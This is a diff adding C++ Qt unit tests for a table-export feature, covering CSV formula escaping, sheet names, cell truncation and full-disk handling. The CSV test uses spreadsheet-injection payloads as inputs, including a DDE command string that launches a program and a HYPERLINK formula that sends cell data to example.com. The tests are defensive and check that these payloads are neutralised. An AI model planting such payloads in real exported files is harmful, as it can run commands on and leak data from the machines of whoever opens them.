@@ -10,6 +10,7 @@
 
 #include <QDir>
 #include <QFile>
+#include <QHash>
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QJsonObject>
@@ -94,6 +95,25 @@ with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:
     print(json.dumps(list(csv.reader(f))))
 )";
 
+QByteArray FileBytes(const QString &path) {
+    QFile file(path);
+    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
+}
+
+// Answers the "导出" file dialog with the path given.
+class SaveAs {
+public:
+    explicit SaveAs(const QString &path)
+        : m_previous(SetSaveFileRunner([path](QString &chosen, QWidget *) {
+              chosen = path;
+              return true;
+          })) {}
+    ~SaveAs() { SetSaveFileRunner(m_previous); }
+
+private:
+    SaveFileRunner m_previous;
+};
+
 } // namespace
 
 class ListExportTest : public QObject {
@@ -104,6 +124,10 @@ private slots:
     void csvIsUtf8WithBomAndQuotesWhereNeeded();
     void pdfComesFromThePrintEngine();
     void exportProposesTheTableNameAndTellsTheOutcome();
+    void csvShowsFormulaTextsAsTextAndKeepsNumbers();
+    void everySheetNameExportsWithoutACrash();
+    void overlongCellsAreCutAndTheClerkIsTold();
+    void fullDiskLeavesTheOldFileAsItWas();
 };
 
 void ListExportTest::columnsAreTypedByTheirCells() {
@@ -264,6 +288,146 @@ void ListExportTest::exportProposesTheTableNameAndTellsTheOutcome() {
     QVERIFY2(messages.Last().text.startsWith("导出失败"), qPrintable(messages.Last().text));
     QCOMPARE(messages.Last().icon, MsgIcon::Exclamation);
     SetSaveFileRunner(previous);
+}
+
+void ListExportTest::csvShowsFormulaTextsAsTextAndKeepsNumbers() {
+    TestDatabase t;
+    CQueryListCtrl list;
+    FillList(list);
+    const int remark = list.ColumnIndexOfTitle("备注");
+    const QStringList formulas = {"=HYPERLINK(\"http://example.com/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+2",
+                                  "-2+3", "@SUM(A1:A2)"};
+    for (int r = 0; r < formulas.size(); ++r)
+        QVERIFY(list.SetItemText(r, remark, formulas[r]));
+    const QString path = QDir(t.Dir()).filePath("清单.csv");
+    QString error;
+    QVERIFY2(ExportListTo(list, "清单", path, &error), qPrintable(error));
+    QJsonArray rows = QJsonDocument::fromJson(RunPython(kReadCsv, {path})).array();
+    QCOMPARE(rows.size(), 1 + list.RowCount());
+    for (int r = 0; r < formulas.size(); ++r)
+        QCOMPARE(rows[1 + r].toArray()[remark].toString(), QStringLiteral("'") + formulas[r]);
+    // Money and numbers stay as they are shown, negative ones too.
+    const int money = list.ColumnIndexOfTitle("金额");
+    const int count = list.ColumnIndexOfTitle("张数");
+    QVERIFY(list.SetItemText(0, count, "-3"));
+    QVERIFY(list.SetItemText(1, money, "￥-12.50"));
+    QVERIFY2(ExportListTo(list, "清单", path, &error), qPrintable(error));
+    rows = QJsonDocument::fromJson(RunPython(kReadCsv, {path})).array();
+    for (int r = 0; r < list.RowCount(); ++r) {
+        QCOMPARE(rows[1 + r].toArray()[money].toString(), list.GetItemText(r, money));
+        QCOMPARE(rows[1 + r].toArray()[count].toString(), list.GetItemText(r, count));
+    }
+    QCOMPARE(rows[1].toArray()[count].toString(), QStringLiteral("-3"));
+
+    // A tab or CR at the start stays, behind the '.
+    QVERIFY(list.SetItemText(0, remark, "\t=1+2"));
+    QVERIFY(list.SetItemText(1, remark, "\r=1+2"));
+    QVERIFY2(ExportListTo(list, "清单", path, &error), qPrintable(error));
+    rows = QJsonDocument::fromJson(RunPython(kReadCsv, {path})).array();
+    QCOMPARE(rows[1].toArray()[remark].toString(), QStringLiteral("'\t=1+2"));
+    QCOMPARE(rows[2].toArray()[remark].toString(), QStringLiteral("'\r=1+2"));
+}
+
+void ListExportTest::everySheetNameExportsWithoutACrash() {
+    TestDatabase t;
+    CQueryListCtrl list;
+    FillList(list);
+    QString emoji;
+    for (int i = 0; i < 40; ++i)
+        emoji += QString::fromUcs4(U"\U0001F4B0", 1);
+    const QString thirty = QStringLiteral("一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十");
+    const QList<QPair<QString, QString>> cases = {{"'2026年1月票据", "2026年1月票据"},
+                                                  {"票据'", "票据"},
+                                                  {emoji, emoji.left(30)},
+                                                  {"a[b]:c*d?e/f\\g", "a_b__c_d_e_f_g"},
+                                                  {"' '", "清单"},
+                                                  {"history", "history_"},
+                                                  {thirty + "'票", thirty}};
+    for (const auto &[title, sheet] : cases) {
+        const QString path = QDir(t.Dir()).filePath("名称.xlsx");
+        QString error;
+        QVERIFY2(ExportListTo(list, title, path, &error), qPrintable(title + ": " + error));
+        const QJsonObject book = QJsonDocument::fromJson(RunPython(kReadWorkbook, {path})).object();
+        QCOMPARE(book.value("sheet").toString(), sheet);
+        // The title row keeps the name as the clerk typed it.
+        const QJsonArray rows = book.value("rows").toArray();
+        QCOMPARE(rows[0].toArray()[0].toObject().value("v").toString(), title);
+        QCOMPARE(rows.size(), 2 + list.RowCount());
+    }
+}
+
+void ListExportTest::overlongCellsAreCutAndTheClerkIsTold() {
+    TestDatabase t;
+    MessageCapture messages;
+    CQueryListCtrl list;
+    FillList(list);
+    const int remark = list.ColumnIndexOfTitle("备注");
+    QVERIFY(list.SetItemText(0, remark, QString(40000, QChar(u'票'))));
+    // An emoji on the limit is not split: the cut falls before it.
+    QVERIFY(list.SetItemText(1, remark, QString(32766, QLatin1Char('a')) + QString::fromUcs4(U"\U0001F4B0", 1)));
+    QVERIFY(list.SetItemText(2, remark, QString(32767, QLatin1Char('b'))));
+    const QString path = QDir(t.Dir()).filePath("长.xlsx");
+    const SaveAs answer(path);
+    QVERIFY(ExportList(list, "长"));
+    QCOMPARE(messages.Count(), 1);
+    QCOMPARE(messages.Last().caption, QStringLiteral("完成"));
+    QVERIFY2(messages.Last().text.contains(QStringLiteral("有2个单元格")), qPrintable(messages.Last().text));
+    QVERIFY(messages.Last().text.contains(QStringLiteral("截断")));
+    const QJsonArray rows = QJsonDocument::fromJson(RunPython(kReadWorkbook, {path})).object().value("rows").toArray();
+    QCOMPARE(rows[2].toArray()[remark].toObject().value("v").toString(), QString(32767, QChar(u'票')));
+    QCOMPARE(rows[3].toArray()[remark].toObject().value("v").toString(), QString(32766, QLatin1Char('a')));
+    QCOMPARE(rows[4].toArray()[remark].toObject().value("v").toString(), QString(32767, QLatin1Char('b')));
+
+    // Nothing to cut, nothing said about it.
+    QVERIFY(list.SetItemText(0, remark, "短"));
+    QVERIFY(list.SetItemText(1, remark, "短"));
+    QVERIFY(ExportList(list, "长"));
+    QCOMPARE(messages.Last().caption, QStringLiteral("完成"));
+    QVERIFY(!messages.Last().text.contains(QStringLiteral("截断")));
+}
+
+void ListExportTest::fullDiskLeavesTheOldFileAsItWas() {
+    TestDatabase t;
+    MessageCapture messages;
+    CQueryListCtrl list;
+    FillList(list);
+    const QString folder = QDir(t.Dir()).filePath("满");
+    SmallFileSystem disk(folder, 512 * 1024);
+    if (!disk.IsMounted())
+        QSKIP(qPrintable(disk.Error()));
+    // The old files, written by an export while there was room.
+    const QStringList types = {"xlsx", "csv", "pdf"};
+    QHash<QString, QByteArray> before;
+    for (const QString &type : types) {
+        const QString path = QDir(folder).filePath("给财务." + type);
+        QString error;
+        QVERIFY2(ExportListTo(list, "给财务", path, &error), qPrintable(error));
+        before[type] = FileBytes(path);
+        QVERIFY(!before[type].isEmpty());
+    }
+    // Far more rows than the room left.
+    const int shown = list.RowCount();
+    for (int copy = 0; copy < 400; ++copy)
+        for (int r = 0; r < shown; ++r) {
+            const int row = list.AppendRow();
+            for (int c = 0; c < list.ColumnCount(); ++c)
+                list.SetItemText(row, c, list.GetItemText(r, c));
+            list.SetItemText(row, list.ColumnIndexOfTitle("备注"), QStringLiteral("第%1份").arg(copy));
+        }
+    disk.FillLeaving(16 * 1024);
+    for (const QString &type : types) {
+        const QString path = QDir(folder).filePath("给财务." + type);
+        const SaveAs answer(path);
+        QVERIFY(!ExportList(list, "给财务"));
+        const QString text = messages.Last().text;
+        QVERIFY2(text.startsWith(QStringLiteral("导出失败")), qPrintable(text));
+        QVERIFY2(text.contains(QStringLiteral("原有的同名文件没有改动")), qPrintable(text));
+        QCOMPARE(messages.Last().icon, MsgIcon::Exclamation);
+        QVERIFY2(FileBytes(path) == before[type], qPrintable(type));
+    }
+    // No half files are left beside them.
+    QCOMPARE(QDir(folder).entryList(QDir::Files | QDir::Hidden, QDir::Name),
+             (QStringList{"filler.bin", "给财务.csv", "给财务.pdf", "给财务.xlsx"}));
 }
 
 QTEST_MAIN(ListExportTest)
